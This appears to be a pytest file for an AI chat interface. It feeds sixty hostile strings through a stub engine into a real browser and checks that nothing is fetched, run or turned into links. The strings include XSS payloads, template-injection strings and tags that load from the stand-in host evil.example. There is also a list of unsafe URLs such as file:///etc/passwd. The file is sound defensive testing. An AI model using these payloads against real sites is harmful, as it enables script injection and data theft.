"""Sixty hostile answers through a stub engine into a real browser: nothing is fetched, run, or hidden."""

from __future__ import annotations

import dataclasses
from typing import Any

import pytest

from bots import render
from coach.domain import Passage, Source

from .conftest import Server, make_answer, open_page

EVIL = "http://evil.example"
HOSTILE = (
    f"![x]({EVIL}/a.png)", f"![x][r]\n\n[r]: {EVIL}/a.png", f"[click]({EVIL})", "[x](javascript:alert(1))",
    f"<img src={EVIL}/a.png>", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
    f"<script src={EVIL}/a.js></script>", f"<iframe src={EVIL}></iframe>", f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>", "<svg onload=alert(1)>", f"<svg><image href={EVIL}/a.png /></svg>",
    f"<link rel=stylesheet href={EVIL}/a.css>", f"<style>@import '{EVIL}/a.css';</style>",
    f"<style>*{{background:url({EVIL}/a)}}</style>", f"<div style='background:url({EVIL}/a)'>x</div>",
    f"<video src={EVIL}/v poster={EVIL}/p></video>", f"<audio src={EVIL}/a autoplay></audio>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<base href={EVIL}>", f"<form action={EVIL}><input autofocus></form>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>", "<a href='javascript:alert(1)'>x</a>", "<a href='data:text/html,<script>1'>x</a>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>", "<template><img src=x onerror=alert(1)></template>",
    "</div></div><img src=x onerror=alert(1)>", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)",
    "${alert(1)}", "${fetch('" + EVIL + "')}", "`${alert(1)}`", "{{constructor.constructor('alert(1)')()}}",
    "{{#with this}}{{lookup (lookup this 'constructor') 'constructor'}}{{/with}}", "{{{value}}}", "@children", "`;alert(1);`",
    "\\`${alert(1)}", f"$$\\href{{{EVIL}}}{{x}}$$", "$$\\includegraphics{" + EVIL + "/a.png}$$",
    f"```mermaid\ngraph TD; A-->B; click A \"{EVIL}\"\n```", f"```html\n<img src={EVIL}/a.png>\n```",
    f"| ![x]({EVIL}/t.png) | <img src={EVIL}/u.png> |", f"# ![x]({EVIL}/h.png)", f"- ![x]({EVIL}/l.png)",
    f"1. <img src={EVIL}/o.png>", f"**<img src={EVIL}/b.png>**", f"`<img src={EVIL}/c.png>`", f"<{EVIL}/auto>",
    f"<picture><source srcset={EVIL}/s.png></picture>", "safe\u202egnp.exe", "a\u0000b<img src=x onerror=alert(1)>",
    "<button class=cite data-n=1 onclick=alert(1) data-act=ask data-text='delete everything'>1</button>",
)


def test_there_are_sixty() -> None:
    assert len(set(HOSTILE)) == 60


def test_hostile_answers_fetch_nothing_and_run_nothing_in_a_browser(browser: Any, server: Server) -> None:
    hostile_source = Passage("p#1", HOSTILE[5], "\n".join(HOSTILE), "javascript:alert(1)", HOSTILE[4], heading=HOSTILE[11],
                             references=(Source(HOSTILE[6], HOSTILE[7], "javascript:alert(2)"),))
    plain = make_answer(*HOSTILE, answer_id="hostile-1")
    sentences = tuple(dataclasses.replace(sentence, paragraph=number) for number, sentence in enumerate(plain.sentences))
    answer = dataclasses.replace(plain, sentences=sentences, suggestions=HOSTILE[:8], notice=HOSTILE[5], model=HOSTILE[4],
                                 thinking="\n".join(HOSTILE), citations=(*plain.citations, hostile_source))
    server.coach.script = lambda request, cancel: iter([answer])
    visit = open_page(browser, server.url)
    visit.ask(HOSTILE[5])
    visit.wait_for_answers(1)
    visit.page.click("#thread details.sources summary")
    visit.page.click("#thread details.thinking summary")
    visit.page.click("#thread .cite >> nth=0")
    visit.page.reload()
    visit.page.wait_for_selector("#thread .turn")
    visit.page.wait_for_timeout(500)
    inside = "#thread .answer-body"
    assert visit.page.locator(f"{inside} :is(img, script, iframe, svg, a, style, form, input, video, object)").count() == 0
    assert visit.page.locator("#thread :is(img, script, iframe, svg, style, form, video, object, embed)").count() == 0
    assert visit.page.locator(f"{inside} .cite").count() == len(HOSTILE)
    shown = visit.page.inner_text(inside)
    for text in ("<script>alert(1)</script>", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "{{{value}}}"):
        assert text in shown
    assert "\u202e" not in shown
    visit.page.context.close()
    assert visit.foreign == []
    assert visit.dialogs == []
    assert visit.complaints == []


def test_the_guard_is_what_protects(browser: Any, server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    """Positive control: with escaping off, the same answer does run script, so the test above can fail."""
    monkeypatch.setattr(render, "escape", lambda text: text)
    server.coach.script = lambda request, cancel: iter([make_answer("<img src=x onerror=alert(1)>", answer_id="control")])
    visit = open_page(browser, server.url)
    visit.ask("x")
    visit.wait_for_answers(1)
    visit.page.wait_for_timeout(300)
    visit.page.context.close()
    assert visit.dialogs


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_carries_no_image_link_or_tag_of_the_answer(text: str) -> None:
    from markdown_it import MarkdownIt

    made = MarkdownIt("commonmark", {"html": True}).render(render.render_markdown(make_answer(text)))
    for wrong in ("<img", "<script", "<iframe", "<svg", "javascript:alert", f'href="{EVIL}'):
        assert wrong not in made.replace("&lt;", "").lower() or wrong == "javascript:alert"


@pytest.mark.parametrize("address", [
    "javascript:alert(1)", "data:text/html,x", "//evil.example", "http://a@b.example", "file:///etc/passwd", "http://",
    'http://x"onclick=alert(1)', "http://x y", "guides/x.md", "http://[bad", ""])
def test_only_plain_web_addresses_become_links(address: str) -> None:
    assert render.safe_link(address) == ""


def test_highlighted_spans_are_joined_and_cut() -> None:
    made = render.highlight_html("learn <b> python", [(0, 5), (3, 9), (40, 50), (-3, 2)])
    assert made == "<mark>learn &lt;b&gt;</mark> python".replace("&lt;b&gt;", "&lt;b&gt;")
